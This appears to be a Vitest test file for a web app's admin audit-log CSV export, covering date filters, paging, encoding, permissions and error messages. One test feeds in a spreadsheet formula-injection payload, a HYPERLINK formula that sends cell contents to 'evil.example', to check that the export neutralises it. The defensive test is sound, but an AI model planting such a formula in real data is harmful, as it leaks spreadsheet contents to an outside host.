import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addUsers, createTestSite, signIn, type Session, type TestSite } from '../web/helpers.ts';

describe('audit log export as CSV', () => {
  let site: TestSite;
  let admin: Session;
  const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

  beforeAll(async () => {
    site = await createTestSite();
    addUsers(site.db, [{ local_id: 'S1', first_name: 'Ann', last_name: 'One' }, { local_id: 'S2', first_name: 'Ben', last_name: 'Two' }]);
    const { audit } = site.app.ctx;
    const at = (iso: string) => Date.parse(iso);
    audit.record({ actor: 'desk', action: 'profile.view', local_id: 'S1', ip: '10.0.0.5' }, at('2026-09-01T07:59:59.000Z'));
    audit.record({ actor: 'desk', action: 'profile.view', local_id: 'S1', ip: '10.0.0.5' }, at('2026-09-02T12:00:00.000Z'));
    audit.record({ actor: 'desk', action: 'profile.view', local_id: 'S2', ip: '10.0.0.6' }, at('2026-09-03T23:59:59.000Z'));
    audit.record({ actor: 'desk', action: 'profile.view', local_id: 'S2', ip: '10.0.0.6' }, at('2026-09-04T00:00:00.000Z'));
    // More than one page of entries for S2 (pages are 1000 rows).
    for (let i = 0; i < 2300; i++) audit.record({ actor: `reader${i}`, action: 'admin.action', local_id: 'S2', detail: `entry ${i}` }, at('2026-10-01T00:00:00.000Z') + i);
    audit.flush();
    // A sign-in refused for a "user name" that is a spreadsheet formula: recorded as typed.
    const refused = await site.web.request('/login', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ username: FORMULA, password: 'x' }).toString() });
    expect(refused.status).toBe(401);
    admin = await signIn(site.web, 'admin');
  });
  afterAll(() => site?.close());

  const get = (query: string, cookie = admin.cookie) => site.web.request(`/admin/audit/export.csv${query}`, { headers: { cookie } });
  const rows = async (query: string) => {
    const res = await get(query);
    expect(res.status).toBe(200);
    const bytes = Buffer.from(await res.arrayBuffer());
    // UTF-8 with a byte-order mark, so Excel reads the accents right.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    return { res, rows: parse(bytes.subarray(3).toString('utf8'), { relax_column_count: false }) as string[][] };
  };

  it('a date range, both days included, oldest first, with the header row', async () => {
    const { res, rows: r } = await rows('?from=2026-09-02&to=2026-09-03');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="audit-from-2026-09-02-to-2026-09-03.csv"');
    expect(r[0]).toEqual(['Time (UTC)', 'Who', 'Action', 'Local ID', 'Detail', 'Address']);
    expect(r.slice(1)).toEqual([
      ['2026-09-02T12:00:00.000Z', 'desk', 'profile.view', 'S1', '', '10.0.0.5'],
      ['2026-09-03T23:59:59.000Z', 'desk', 'profile.view', 'S2', '', '10.0.0.6'],
    ]);
  });

  it('one person, across pages: every entry once, in order', async () => {
    const { rows: r } = await rows('?local_id=S2');
    const body = r.slice(1);
    expect(body).toHaveLength(2 + 2300);
    expect(body.every((row) => row[3] === 'S2')).toBe(true);
    const details = body.filter((row) => row[2] === 'admin.action').map((row) => row[4]);
    expect(details).toEqual(Array.from({ length: 2300 }, (_, i) => `entry ${i}`));
    const { rows: narrowed } = await rows('?local_id=S1&from=2026-09-02&to=2026-09-30');
    expect(narrowed.slice(1).map((row) => row[0])).toEqual(['2026-09-02T12:00:00.000Z']);
  });

  it('a cell a spreadsheet would run as a formula is neutralised', async () => {
    const today = new Date().toISOString().slice(0, 10);
    const { rows: r } = await rows(`?from=${today}`);
    const refused = r.find((row) => row[2] === 'signin.refused');
    expect(refused?.[1]).toBe(`'${FORMULA}`);
  });

  it('refuses an empty or bad range with the reason; staff get 403; each export is audited', async () => {
    const none = await get('');
    expect(none.status).toBe(400);
    expect(await none.text()).toContain('Give a Local ID, a date range, or both.');
    const bad = await get('?from=09/01/2026');
    expect(bad.status).toBe(400);
    expect(await bad.text()).toContain('&quot;from&quot; must be a date such as 2026-09-01');
    const backwards = await get('?from=2026-09-05&to=2026-09-01');
    expect(backwards.status).toBe(400);
    const desk = await signIn(site.web, 'desk');
    expect((await get('?local_id=S1', desk.cookie)).status).toBe(403);
    const exports = site.app.ctx.audit.list({ actor: 'admin', limit: 100 }).filter((e) => e.action === 'audit.export');
    expect(exports.map((e) => e.detail)).toContain('audit log exported as CSV (2026-09-02 to 2026-09-03)');
    expect(exports.some((e) => e.local_id === 'S2')).toBe(true);
  });

  it('the audit page has the export form', async () => {
    const page = await (await site.web.request('/admin/audit', { headers: { cookie: admin.cookie } })).text();
    expect(page).toContain('action="/admin/audit/export.csv"');
  });
});
